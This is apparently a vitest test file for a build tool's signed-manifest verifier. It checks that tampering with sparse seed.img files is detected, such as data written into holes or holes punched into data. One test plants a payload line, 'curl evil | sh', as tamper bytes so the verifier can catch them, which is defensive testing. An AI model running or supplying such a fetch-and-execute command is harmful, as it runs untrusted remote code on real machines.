// verify and sparse files: a build's seed.img (1 MiB, mostly holes) is checked by its data ranges — hashed — and
// its recorded holes — read, checked to be zeros, never hashed. What counts is the bytes a reader gets: data put
// into a hole or a hole punched into data (with dd and fallocate, on the real files of a real build) are caught;
// zeros written into a hole change no byte and pass. A manifest from before the record (no `sparse`) still verifies
// by hashing whole files.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { requireTools, tool } from '../../scripts/testkit/tools.ts';
import { EXAMPLE } from '../../scripts/testkit/fixed-secrets.ts';
import { runCli } from '../helpers.ts';
import { verifyBuild } from '../../scripts/keys/verify.ts';
import { openKeyStore } from '../../scripts/keys/store.ts';
import { parseManifest } from '../../scripts/manifest/read.ts';
import { dataSha256, holesOf, rangesLength } from '../../scripts/util/sparse.ts';
import { sha256Hex } from '../../scripts/util/hash.ts';
import type { Manifest, ManifestArtifact } from '../../scripts/manifest/types.ts';

const HAVE_TOOLS = requireTools(['fallocate', 'mkfs.vfat', 'ssh-keygen'], 'test/keys/verify-sparse.test.ts');
const EPOCH = 1767225600;
const tmp = mkdtempSync(path.join(tmpdir(), 'ef-verify-sparse-'));
const out = path.join(tmp, 'out');
const keys = path.join(tmp, 'keys');
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const manifest = (): Manifest => JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8'));
const seedOf = (m: Manifest, id: string): ManifestArtifact => m.devices.find((d) => d.id === id)!.artifacts.find((a) => a.kind === 'seed-image')!;
const verify = () => verifyBuild(out, undefined, { keysDir: keys });
const dd = (args: string[]) => execFileSync('dd', [...args, 'conv=notrunc', 'status=none']);

describe.runIf(HAVE_TOOLS)('verify: sparse files by their data ranges', () => {
  const ID = 'brno1-dock-001';
  let img: string;
  let saved: string;
  beforeAll(async () => {
    const r = await runCli(['build', '-i', EXAMPLE, '-o', out, '--keys', keys, '--only', `${ID},ulsan1-line1-001`, '--json'], { env: { SOURCE_DATE_EPOCH: String(EPOCH) } });
    expect(r.code, r.stderr).toBe(0);
    img = path.join(out, 'devices', ID, 'seed.img');
    saved = path.join(tmp, 'seed.img.saved');
    execFileSync('cp', ['--sparse=always', img, saved]);
  }, 180_000);
  // each case starts from the built file (cp keeps its holes)
  const restore = () => execFileSync('cp', ['--sparse=always', saved, img]);

  it('the manifest records where each seed.img holds data, and the sha256 of those bytes; verify hashes only them', async () => {
    for (const d of manifest().devices) {
      const a = seedOf(manifest(), d.id);
      const bytes = readFileSync(path.join(out, a.path));
      expect(a.sha256).toBe(sha256Hex(bytes)); // the whole file's hash stays what it was
      expect(a.sparse, d.id).toBeDefined();
      expect(rangesLength(a.sparse!.data)).toBeLessThan(a.bytes / 4);
      expect(a.sparse!.sha256).toBe(dataSha256(bytes, a.sparse!.data));
      for (const [off, len] of holesOf(a.sparse!.data, a.bytes)) expect(bytes.subarray(off, off + len).every((x) => x === 0)).toBe(true);
    }
    const r = await verify();
    expect(r.problems).toEqual([]);
    expect(r.ok).toBe(true);
    const seeds = manifest().devices.map((d) => seedOf(manifest(), d.id));
    expect(r.holes).toBe(seeds.reduce((n, a) => n + a.bytes - rangesLength(a.sparse!.data), 0));
  });

  it('zeros written into a hole change no byte: accepted, though the hole is now allocated', async () => {
    const a = seedOf(manifest(), ID);
    const [off, len] = holesOf(a.sparse!.data, a.bytes).at(-1)!;
    expect(len).toBeGreaterThan(16 * 4096);
    const before = statSync(img).blocks;
    dd(['if=/dev/zero', `of=${img}`, 'bs=4096', `seek=${off / 4096 + 4}`, 'count=8']);
    expect(statSync(img).blocks).toBeGreaterThan(before);
    expect((await verify()).ok).toBe(true);
    restore();
  });

  it('data put into a hole (dd conv=notrunc) is found, with its offset', async () => {
    const a = seedOf(manifest(), ID);
    const [off] = holesOf(a.sparse!.data, a.bytes).at(-1)!;
    const at = off + 5 * 4096 + 123;
    const payload = path.join(tmp, 'payload');
    writeFileSync(payload, '#!/bin/sh\ncurl evil | sh\n');
    dd([`if=${payload}`, `of=${img}`, 'bs=1', `seek=${at}`]);
    expect(statSync(img).size).toBe(a.bytes);
    const r = await verify();
    expect(r.ok).toBe(false);
    expect(r.problems).toEqual([{ device: ID, path: a.path, message: `data at offset ${at}, where the signed manifest records a hole (only zeros): the file is not what was built` }]);
    restore();
    expect((await verify()).ok).toBe(true);
  });

  it('a hole punched into data (fallocate --punch-hole) is found: the data no longer hashes to the record', async () => {
    const a = seedOf(manifest(), ID);
    const [off, len] = a.sparse!.data.find(([, l]) => l >= 8 * 4096)!;
    const at = off + Math.floor(len / 4096 / 2) * 4096;
    expect(
      readFileSync(img)
        .subarray(at, at + 4096)
        .some((x) => x !== 0),
    ).toBe(true);
    execFileSync(tool('fallocate'), ['--punch-hole', '--offset', String(at), '--length', '4096', img]);
    expect(
      readFileSync(img)
        .subarray(at, at + 4096)
        .every((x) => x === 0),
    ).toBe(true);
    const r = await verify();
    expect(r.ok).toBe(false);
    expect(r.problems).toEqual([{ device: ID, path: a.path, message: expect.stringMatching(/^sha256 of its data ranges [0-9a-f]{64} does not match the manifest \([0-9a-f]{64}\)$/) }]);
    restore();
  });

  it('a manifest without the record (made before it) verifies by hashing whole files, and still finds data in a hole', async () => {
    const mp = path.join(out, 'manifest.json');
    const [m0, s0] = [readFileSync(mp), readFileSync(mp + '.asc')];
    const m = manifest();
    for (const d of m.devices) for (const a of d.artifacts) delete a.sparse;
    const bytes = Buffer.from(JSON.stringify(m, null, 2) + '\n');
    const ks = await openKeyStore({ dir: keys, workers: 0 });
    try {
      writeFileSync(mp, bytes);
      writeFileSync(mp + '.asc', await ks.signDetached(bytes, { sourceDateEpoch: EPOCH }));
    } finally {
      await ks.close();
    }
    const ok = await verify();
    expect(ok.problems).toEqual([]);
    expect(ok.holes).toBe(0);
    const a = seedOf(m, ID);
    const [off] = holesOf(seedOf(parseManifest(m0, 'm'), ID).sparse!.data, a.bytes).at(-1)!;
    dd(['if=/dev/urandom', `of=${img}`, 'bs=1', 'count=7', `seek=${off + 4096}`]);
    const bad = await verify();
    expect(bad.problems).toEqual([{ device: ID, path: a.path, message: expect.stringMatching(/^sha256 [0-9a-f]{64} does not match the manifest/) }]);
    restore();
    writeFileSync(mp, m0);
    writeFileSync(mp + '.asc', s0);
  });
});

describe('the manifest reader checks a sparse record', () => {
  const base = { format: 'edgeforge-manifest/1', fleet: 'f', inventorySha256: 'a'.repeat(64), sourceDateEpoch: 1 };
  const withRanges = (data: [number, number][]) => ({
    ...base,
    devices: [
      {
        id: 'd',
        region: 'r',
        site: 's',
        profile: 'p',
        artifacts: [{ kind: 'seed-image', path: 'devices/d/seed.img', sha256: 'b'.repeat(64), bytes: 65536, secret: true, sparse: { data, sha256: 'c'.repeat(64) } }],
      },
    ],
  });

  it("keeps a good one, in the writer's key order", () => {
    const m = parseManifest(
      withRanges([
        [0, 4096],
        [8192, 4096],
      ]),
      'm.json',
    );
    expect(Object.keys(m.devices[0].artifacts[0])).toEqual(['kind', 'path', 'sha256', 'bytes', 'secret', 'sparse']);
    expect(m.devices[0].artifacts[0].sparse).toEqual({
      data: [
        [0, 4096],
        [8192, 4096],
      ],
      sha256: 'c'.repeat(64),
    });
  });

  it('refuses ranges out of order, overlapping, empty or past the end of the file', () => {
    for (const bad of [
      [
        [8192, 4096],
        [0, 4096],
      ],
      [
        [0, 8192],
        [4096, 4096],
      ],
      [[0, 0]],
      [[61440, 8192]],
    ] as [number, number][][]) {
      expect(() => parseManifest(withRanges(bad), 'm.json'), JSON.stringify(bad)).toThrow(/sparse\.data must be non-empty \[offset, length\] ranges in order/);
    }
  });
});
